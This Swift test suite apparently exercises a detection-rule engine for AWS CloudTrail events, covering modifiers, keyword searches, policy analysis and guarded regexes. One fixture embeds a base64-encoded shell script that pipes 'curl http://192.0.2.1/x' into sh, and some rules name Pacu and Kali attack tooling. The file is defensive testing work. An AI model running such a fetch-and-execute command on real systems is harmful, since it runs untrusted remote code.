import CrossTrailBase
import CrossTrailIngest
import CrossTrailModel
import Foundation
import TestSupport
import Testing

@testable import CrossTrailRules

/// A CloudTrail record with the given top-level members replaced or added (JSON fragments).
func cloudTrail(
    _ name: String = "PutBucketPolicy", source: String = "s3.amazonaws.com", id: String = "e1", extra: String = ""
) -> String {
    #"{"eventVersion":"1.08","eventTime":"2026-08-01T10:00:00Z","eventSource":"\#(source)","eventName":"\#(name)","eventID":"\#(id)","awsRegion":"eu-west-1","sourceIPAddress":"203.0.113.9","userAgent":"aws-cli/2.15","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/bob","accountId":"111122223333","userName":"bob"},"recipientAccountId":"111122223333""#
        + (extra.isEmpty ? "" : "," + extra) + "}"
}

@Suite struct ModifierTests {
    @Test func existsCidrAndNumbers() throws {
        let e = try event(cloudTrail(extra: #""requestParameters":{"bucketName":"b","count":"12","ports":[22,8080]}"#))
        #expect(try rule("  s:\n    requestParameters.bucketName|exists: true\n  condition: s").matches(e))
        #expect(try rule("  s:\n    errorCode|exists: false\n  condition: s").matches(e))
        #expect(!(try rule("  s:\n    requestParameters.nothing|exists: true\n  condition: s").matches(e)))
        #expect(try rule("  s:\n    sourceIPAddress|cidr: 203.0.113.0/24\n  condition: s").matches(e))
        #expect(!(try rule("  s:\n    sourceIPAddress|cidr: [10.0.0.0/8, '2001:db8::/32']\n  condition: s").matches(e)))
        #expect(try rule("  s:\n    requestParameters.count|gt: 11\n  condition: s").matches(e))
        #expect(!(try rule("  s:\n    requestParameters.count|lt: 12\n  condition: s").matches(e)))
        #expect(try rule("  s:\n    requestParameters.count|lte: 12\n  condition: s").matches(e))
        #expect(
            try rule("  s:\n    requestParameters.ports|gte: 8080\n  condition: s").matches(e), "any value of an array")
        #expect(
            !(try rule("  s:\n    requestParameters.bucketName|gt: 1\n  condition: s").matches(e)),
            "text is not a number")
    }

    @Test func casedAndRegexFlags() throws {
        let e = try event(cloudTrail())
        #expect(try rule("  s:\n    eventName|cased: PutBucketPolicy\n  condition: s").matches(e))
        #expect(
            !(try rule("  s:\n    eventName|cased: putbucketpolicy\n  condition: s").matches(e)),
            "cased compares case-sensitively")
        #expect(try rule("  s:\n    eventName|contains|cased: Bucket\n  condition: s").matches(e))
        #expect(
            !(try rule("  s:\n    eventName|re: '^putbucket'\n  condition: s").matches(e)),
            "re is case-sensitive by default")
        #expect(try rule("  s:\n    eventName|re|i: '^putbucket'\n  condition: s").matches(e))
    }

    @Test func badModifierValuesAreLoadErrors() throws {
        for (detection, reason) in [
            ("eventName|cidr: notanaddress", "not an address range"), ("eventName|gt: many", "is not a number"),
            ("eventName|exists: maybe", "takes true or false"),
            ("eventName|expand: '%x%'", "placeholder '%x%' is not defined"),
            ("userAgent|base64offset: x", "only works with contains"),
            ("userAgent|windash|contains: ' -a -b -c -d'", "more than three dashes"),
        ] {
            let (_, errors) = RuleLoader.load(
                yaml: "title: t\nid: t\ndetection:\n  s:\n    \(detection)\n  condition: s\n", file: "t.yml")
            #expect(errors.first?.reason.contains(reason) == true, "\(detection): \(errors)")
            #expect(errors.first?.line == 5)
        }
    }

    /// `expand` replaces `%name%` with the values of a `placeholders:` settings document, which may
    /// sit in another file or folder than the rule; other modifiers apply to the expanded values.
    @Test func expandUsesPlaceholdersFromAnyRulesFolder() throws {
        #expect(try RuleSettings.expand("%a%-%b%", ["a": ["1", "2"], "b": ["x"]]) == ["1-x", "2-x"])
        #expect(try RuleSettings.expand("100% of %a%", ["a": ["b"]]) == ["100% of b"], "a lone % stays")
        #expect(try RuleSettings.expand("no placeholders", [:]) == ["no placeholders"])
        let root = try TestPaths.temporaryDirectory("expand")
        let rules = root.appendingPathComponent("rules"), settings = root.appendingPathComponent("settings")
        for d in [rules, settings] { try FileManager.default.createDirectory(at: d, withIntermediateDirectories: true) }
        try """
        title: Admin role changed a bucket policy
        name: admin-bucket-policy
        logsource: {product: aws, service: cloudtrail}
        detection:
          selection:
            userIdentity.arn|expand: '%admins%'
            eventSource|expand: '%storage%.amazonaws.com'
          condition: selection
        ---
        title: Known automation
        filter:
          rules: [admin-bucket-policy]
          selection:
            userAgent|expand|contains: '%automation%'
          condition: not selection
        """.write(to: rules.appendingPathComponent("r.yml"), atomically: true, encoding: .utf8)
        try """
        placeholders:
          admins: ['arn:aws:iam::111122223333:user/bob', 'arn:aws:iam::111122223333:user/root-ops']
          storage: [s3, s3-outposts]
          automation: terraform
        """.write(to: settings.appendingPathComponent("placeholders.yml"), atomically: true, encoding: .utf8)
        let set = RuleSet.load(directories: [rules.path, settings.path], builtins: false)
        #expect(set.errors.isEmpty, "\(set.errors)")
        let r = try #require(set.rules.first { $0.id == "admin-bucket-policy" })
        #expect(r.filteredBy.count == 1)
        #expect(r.matches(try event(cloudTrail())))
        let terraform = cloudTrail().replacingOccurrences(
            of: "aws-cli/2.15", with: "APN/1.0 HashiCorp/1.0 Terraform/1.9.8")
        #expect(!r.matches(try event(terraform)), "the filter's expanded value")
        #expect(!r.matches(try event(cloudTrail(source: "ec2.amazonaws.com"))))
        let other = cloudTrail().replacingOccurrences(of: "user/bob", with: "user/alice")
        #expect(!r.matches(try event(other)))
        // Without the settings folder the placeholders are undefined: an error naming the file and line.
        let missing = RuleSet.load(directories: [rules.path], builtins: false)
        let error = try #require(missing.errors.first { $0.reason.contains("'%admins%' is not defined") })
        #expect(error.file.hasSuffix("r.yml") && error.line == 6, "\(error)")
    }

    /// Keyword selections search every text of the event (names, identity, user agent, error,
    /// request and response), case-insensitively, with wildcards.
    @Test func keywordSelectionsSearchTheWholeEvent() throws {
        let pacu = try event(
            cloudTrail(extra: #""requestParameters":{"roleSessionName":"Pacu-kali"}"#).replacingOccurrences(
                of: "aws-cli/2.15", with: "Boto3/1.9 Python/3.8 Linux/5.15-kali"))
        let plain = try event(cloudTrail())
        let r = try rule("  keywords:\n    - '*kali*'\n    - pacu\n  condition: keywords")
        #expect(r.matches(pacu) && !r.matches(plain))
        #expect(try rule("  keywords: 'pacu-KALI'\n  condition: keywords").matches(pacu), "in the request parameters")
        #expect(try rule("  keywords: 'user/bob'\n  condition: keywords").matches(plain), "in the identity")
        #expect(
            try rule("  keywords: [PutBucketPolicy]\n  s: {eventSource: s3.amazonaws.com}\n  condition: keywords and s")
                .matches(plain))
        #expect(!(try rule("  keywords: [GetObject]\n  condition: keywords").matches(plain)))
        let (_, errors) = RuleLoader.load(
            yaml: "title: t\nid: t\ndetection:\n  k:\n    - x\n    - {eventName: y}\n  condition: k\n", file: "t.yml")
        #expect(errors.first?.reason.contains("either keywords or field mappings") == true, "\(errors)")
        #expect(errors.first?.line == 5)
    }

    /// The value transforms, with pySigma's results for the same inputs as the reference.
    @Test func valueTransformsMatchPySigma() {
        #expect(ValueTransform.base64.apply("/bin/bash") == ["L2Jpbi9iYXNo"])
        #expect(ValueTransform.base64offset.apply("/bin/bash") == ["L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"])
        let wide = ValueTransform.wide.apply("ping")
        #expect(wide.flatMap(ValueTransform.base64.apply) == ["cABpAG4AZwA="])
        #expect(wide.flatMap(ValueTransform.base64offset.apply) == ["cABpAG4AZw", "AAaQBuAGcA", "wAGkAbgBnA"])
        let dashes = ValueTransform.windash.apply("-param-name /x")
        #expect(dashes.count == 25, "two expandable dashes, five forms each")
        #expect(dashes.contains("/param-name -x") && dashes.contains("\u{2013}param-name \u{2014}x"))
        #expect(dashes.allSatisfy { $0.contains("param-name") }, "a dash inside a word stays")
        #expect(ValueTransform.windash.apply("no-dash") == ["no-dash"])
    }

    @Test func transformedValuesMatchEncodedFields() throws {
        let e = try event(
            cloudTrail(
                extra: #""requestParameters":{"userData":"IyEvYmluL2Jhc2gKY3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA=="}"#))
        // "#!/bin/bash\ncurl http://192.0.2.1/x | sh" in base64: the encoded "curl" sits at an offset.
        #expect(
            try rule("  s:\n    requestParameters.userData|base64offset|contains: 'curl http'\n  condition: s").matches(
                e))
        #expect(
            !(try rule("  s:\n    requestParameters.userData|base64offset|contains: wget\n  condition: s").matches(e)))
        #expect(
            try rule("  s:\n    requestParameters.userData|base64|startswith: \"#!/bin/bash\\n\"\n  condition: s")
                .matches(e)
        )
        let cli = try event(cloudTrail(extra: #""requestParameters":{"commandLine":"tool.exe /install /quiet"}"#))
        #expect(
            try rule("  s:\n    requestParameters.commandLine|windash|contains: ' -install'\n  condition: s").matches(
                cli))
        #expect(
            !(try rule("  s:\n    requestParameters.commandLine|windash|contains: ' -uninstall'\n  condition: s")
                .matches(cli)))
    }

    @Test func unknownFieldsAreLoadWarnings() throws {
        let (rules, errors) = RuleLoader.load(
            yaml: "title: t\nid: t\ndetection:\n  s:\n    eventName: x\n    someVendorField: y\n  condition: s\n",
            file: "t.yml")
        #expect(errors.isEmpty)
        #expect(
            rules.first?.warnings == ["field 'someVendorField' is not one crosstrail reads: this test never matches"])
    }

    /// A failed call the rule would match is an attempt, unless the rule reads the outcome itself.
    @Test func failedCallsAreAttempts() throws {
        let failed = try event(
            cloudTrail(
                "StopLogging", source: "cloudtrail.amazonaws.com",
                extra: #""errorCode":"AccessDenied","errorMessage":"denied""#))
        let stop = try rule(
            "  s:\n    eventSource: cloudtrail.amazonaws.com\n    eventName: StopLogging\n  condition: s")
        #expect(stop.verdict(failed) == .attempt)
        #expect(stop.verdict(try event(cloudTrail("StopLogging", source: "cloudtrail.amazonaws.com"))) == .hit)
        let denied = try rule("  s:\n    eventName: StopLogging\n    errorCode: AccessDenied\n  condition: s")
        #expect(denied.seesFailures && denied.verdict(failed) == .hit)
    }

    /// Rules are indexed by the event names they require; rules that can match any name always run.
    @Test func actionIndex() throws {
        #expect(try rule("  s:\n    eventName: [A, B]\n  condition: s").requiredActions == ["a", "b"])
        #expect(
            try rule("  s:\n    eventName: A\n  t:\n    eventName: B\n  condition: s or t").requiredActions == [
                "a", "b",
            ])
        #expect(
            try rule("  s:\n    eventName: [A, B]\n  t:\n    eventName: B\n  condition: s and t").requiredActions == [
                "b"
            ])
        #expect(try rule("  s:\n    eventName: A\n  t:\n    userAgent: x\n  condition: s or t").requiredActions == nil)
        #expect(try rule("  s:\n    eventName|startswith: Put\n  condition: s").requiredActions == nil)
        #expect(try rule("  s:\n    eventName: A\n  condition: not s").requiredActions == nil)
        // The index gives the same hits as evaluating every rule.
        let rules = try ["eventName: PutBucketPolicy", "userAgent|contains: cli", "eventName: DeleteBucket"]
            .enumerated().map { i, test in
                let (r, errors) = RuleLoader.load(
                    yaml: "title: t\nname: r\(i)\ndetection:\n  s:\n    \(test)\n  condition: s\n", file: "t.yml")
                #expect(errors.isEmpty)
                return try #require(r.first)
            }
        let matcher = RuleMatcher(RuleSet(rulesForTesting: rules))
        matcher.evaluate(try RecordNormalizer().normalize(cloudTrail()).get())
        #expect(Set(matcher.hits.keys.map(\.rule)) == ["r0", "r1"])
    }

    /// `name` is the key findings use; `id` (a UUID) and the descriptive attributes are kept.
    @Test func sigmaMetadata() throws {
        let yaml = """
            title: t
            id: 0f5c1f1e-3d1b-4d0e-9a3c-2f1b5c6d7e8f
            name: my-rule
            status: test
            author: me
            date: 2026-12-02
            references: [https://example.com]
            tags: [attack.defense-evasion, attack.t1562.008]
            stratus: [aws.defense-evasion.cloudtrail-stop]
            fields: [requestParameters.name]
            falsepositives: [none]
            logsource: {product: aws}
            detection:
              s:
                eventName: StopLogging
              condition: s
            """
        let r = try #require(RuleLoader.load(yaml: yaml, file: "t.yml").0.first)
        #expect(r.id == "my-rule" && r.metadata.uuid == "0f5c1f1e-3d1b-4d0e-9a3c-2f1b5c6d7e8f")
        #expect(
            r.metadata.stratus == ["aws.defense-evasion.cloudtrail-stop"] && r.metadata.tactics == ["defense-evasion"])
        #expect(r.metadata.fields == ["requestParameters.name"] && r.mitre == ["T1562.008"])
    }
}

@Suite struct PolicyFactTests {
    func facts(_ params: String, source: String = "s3.amazonaws.com", name: String = "PutBucketPolicy") throws -> (
        EventFields, String
    ) {
        (try event(cloudTrail(name, source: source, extra: #""requestParameters":"# + params)), params)
    }

    @Test func publicMeansNoLimitingCondition() throws {
        let open = try facts(
            #"{"bucketName":"b","bucketPolicy":{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::b/*"}]}}"#
        ).0
        #expect(open.values("policy.public") == ["true"])
        let vpce = try facts(
            #"{"bucketName":"b","bucketPolicy":{"Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"s3:GetObject","Resource":"*","Condition":{"StringEquals":{"aws:SourceVpce":"vpce-1"}}}]}}"#
        ).0
        #expect(vpce.values("policy.public") == ["false"] && vpce.values("policy.limitedBy") == ["aws:SourceVpce"])
        let deny = try facts(
            #"{"bucketPolicy":{"Statement":[{"Effect":"Deny","Principal":"*","Action":"s3:*","Resource":"*","Condition":{"Bool":{"aws:SecureTransport":"false"}}}]}}"#
        ).0
        #expect(deny.values("policy.public") == ["false"])
        let anyIP = try facts(
            #"{"bucketPolicy":{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:*","Resource":"*","Condition":{"IpAddress":{"aws:SourceIp":"0.0.0.0/0"}}}]}}"#
        ).0
        #expect(anyIP.values("policy.public") == ["true"], "0.0.0.0/0 limits nothing")
        let ifExists = try facts(
            #"{"bucketPolicy":{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:*","Resource":"*","Condition":{"StringEqualsIfExists":{"aws:PrincipalOrgID":"o-1"}}}]}}"#
        ).0
        #expect(ifExists.values("policy.public") == ["true"], "...IfExists lets requests without the key through")
        #expect(try facts(#"{"bucketName":"b"}"#).0.values("policy.public").isEmpty, "no policy: no facts")
    }

    /// Policies given as JSON text (KMS, SQS, IAM) and accounts outside the caller's.
    @Test func policiesInStringsAndAccounts() throws {
        let kms =
            #"{"keyId":"k","policy":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":[\"arn:aws:iam::999988887777:root\",\"arn:aws:iam::111122223333:root\"]},\"Action\":\"kms:*\",\"Resource\":\"*\"}]}"}"#
        let e = try facts(kms, source: "kms.amazonaws.com", name: "PutKeyPolicy").0
        #expect(e.values("policy.accounts") == ["111122223333", "999988887777"])
        #expect(e.values("policy.externalAccounts") == ["999988887777"])
        #expect(e.values("policy.public") == ["false"])
        let iam =
            #"{"policyName":"p","userName":"u","policyDocument":"{\"Statement\":{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}}"}"#
        let put = try facts(iam, source: "iam.amazonaws.com", name: "PutUserPolicy").0
        #expect(put.values("policy.admin") == ["true"])
        #expect(
            put.values("requestParameters.policyDocument.Statement.Action") == ["*"], "paths descend into JSON text")
    }
}

@Suite struct PolicyWideningTests {
    /// Conditions that look narrowing but admit everyone.
    @Test func wideConditionsAreNotLimits() throws {
        func pub(_ condition: String) throws -> [String] {
            try event(
                cloudTrail(
                    extra:
                        #""requestParameters":{"bucketName":"b","bucketPolicy":{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"*","Condition":"#
                        + condition + "}]}}")
            ).values("policy.public")
        }
        #expect(try pub(#"{"IpAddress":{"aws:SourceIp":["0.0.0.0/1","128.0.0.0/1"]}}"#) == ["true"])
        #expect(try pub(#"{"ArnLike":{"aws:PrincipalArn":"arn:aws:iam::*:role/*"}}"#) == ["true"])
        #expect(try pub(#"{"IpAddress":{"aws:SourceIp":"203.0.113.0/24"}}"#) == ["false"])
        #expect(
            try pub(#"{"ArnLike":{"aws:SourceArn":"arn:aws:s3:::logs-bucket"}}"#) == ["false"],
            "S3 ARNs carry no account")
    }
}

/// The literal a regular expression requires, used to skip running it on values without it.
@Suite struct RegexLiteralTests {
    @Test func requiredLiteralsAreConservative() {
        func literal(_ p: String, _ i: Bool = false) -> String? { RegexLiteral.required(p, caseInsensitive: i)?.text }
        #expect(literal(".+:assumed-role/aws:.+") == ":assumed-role/aws:")
        #expect(literal(#"^arn:aws:iam::\d+:root$"#) == "arn:aws:iam::")
        #expect(literal(#"evil\.example\.com"#) == "evil.example.com")
        #expect(literal("(?i)AdministratorAccess") == "administratoraccess")
        #expect(literal("Admin", true) == "admin")
        #expect(literal("colou?r-scheme") == "r-scheme", "an optional character splits the run")
        #expect(literal("abcd+e") == "abcd", "the character before + is required once")
        #expect(literal("kali|parrot") == nil, "alternatives require no single literal")
        #expect(literal("(kali)linux") == "linux", "groups are skipped")
        #expect(literal("[abc]defg") == "defg")
        #expect(literal("a(?i)bcdef") == nil, "flags switched on later")
        #expect(literal("(?x) a b c") == nil)
        #expect(literal("ab") == nil, "too short to be worth it")
        #expect(literal("(?i)straße") == nil, "case folding beyond ASCII")
        // Found in review: escapes with arguments, \\Q...\\E, nested and POSIX sets, combining marks.
        for pattern in [#"\x41bcd"#, #"\u0041bcd"#, #"\0101bcd"#, #"\cXabc"#, #"(\Q)\Eabc)?"#, "abcd|\u{301}xy"] {
            #expect(literal(pattern) == nil, "\(pattern)")
        }
        #expect(literal("[[:digit:]abc]xyz") == "xyz")
        #expect(literal("[a-z&&[^x]]qrst") == "qrst")
        #expect(literal("abcd\u{301}efgh") == "efgh", "a combining mark joins the character before it")
    }

    @Test func thePrefilterNeverChangesAVerdict() throws {
        let role = try event(
            cloudTrail(extra: #""requestParameters":{"arn":"arn:aws:sts::1:assumed-role/aws:ec2-instance/i-0abc"}"#))
        let user = try event(cloudTrail(extra: #""requestParameters":{"arn":"arn:aws:iam::1:user/alice"}"#))
        let r = try rule("  s:\n    requestParameters.arn|re: '.+:assumed-role/aws:.+'\n  condition: s")
        #expect(r.matches(role) && !r.matches(user))
        let i = try rule("  s:\n    requestParameters.arn|re|i: 'ASSUMED-ROLE/AWS:EC2'\n  condition: s")
        #expect(i.matches(role) && !i.matches(user))
        let inline = try rule("  s:\n    requestParameters.arn|re: '(?i)ASSUMED-ROLE'\n  condition: s")
        #expect(inline.matches(role))
        // ICU folds ſ to s and ß to ss: non-ASCII values go to the expression, which decides.
        let folded = try event(cloudTrail(extra: #""requestParameters":{"arn":"aſſumed-role/paßword"}"#))
        #expect(
            try rule("  s:\n    requestParameters.arn|re|i: 'assumed-role/password'\n  condition: s").matches(folded))
        // A long value without the literal is rejected before the expression runs (Benchmarks/README.md).
        let long = try event(
            cloudTrail(
                extra: #""requestParameters":{"arn":"\#(String(repeating: "arn:aws:iam::1:role/x", count: 190))"}"#))
        #expect(!r.matches(long))
        #expect(
            try #require(r.selections["s"]?.alternatives.first?.first?.requiredLiterals.first??.text)
                == ":assumed-role/aws:")
    }
}

/// Regular expressions through ICU's C API with a time limit: the same answers as
/// NSRegularExpression, and a stop instead of a stall on catastrophic backtracking.
@Suite struct GuardedRegexTests {
    @Test func answersAsNSRegularExpressionDoes() throws {
        let cases: [(String, NSRegularExpression.Options, [String])] = [
            ("^arn:aws:iam::\\d+:root$", [], ["arn:aws:iam::123:root", "arn:aws:iam::123:root2", "x"]),
            ("admin", [.caseInsensitive], ["AdministratorAccess", "user", "ADMIN"]),
            ("^b$", [.anchorsMatchLines], ["a\nb\nc", "abc"]),
            ("a.c", [.dotMatchesLineSeparators], ["a\nc", "abc", "ac"]),
            ("(?i)straße", [], ["STRASSE", "Straße", "strasse"]),
            ("\\p{L}+-\\d{2,}", [], ["é-12", "e-1", "日本-99"]),
        ]
        for (pattern, options, values) in cases {
            let guarded = try GuardedRegex(pattern, options: options)
            let reference = try NSRegularExpression(pattern: pattern, options: options)
            for v in values {
                let expected = reference.firstMatch(in: v, range: NSRange(v.startIndex..., in: v)) != nil
                #expect((guarded.firstMatch(in: v) == .match) == expected, "\(pattern) on \(v)")
            }
        }
        #expect(throws: GuardedRegex.Invalid.self) { try GuardedRegex("([") }
    }

    @Test func catastrophicBacktrackingStops() throws {
        let evil = try GuardedRegex("(a+)+b")
        #expect(evil.firstMatch(in: String(repeating: "a", count: 40)) == .timedOut)
        #expect(evil.timeouts == 1)
        #expect(evil.firstMatch(in: "aaab") == .match, "ordinary values still match")
        // Many threads share one expression (each search borrows its own matcher).
        let hits = Locked(0)
        DispatchQueue.concurrentPerform(iterations: 64) { i in
            if evil.firstMatch(in: String(repeating: "a", count: i % 5 + 1) + "b") == .match {
                hits.withLock { $0 += 1 }
            }
        }
        #expect(hits.current == 64)
    }
}
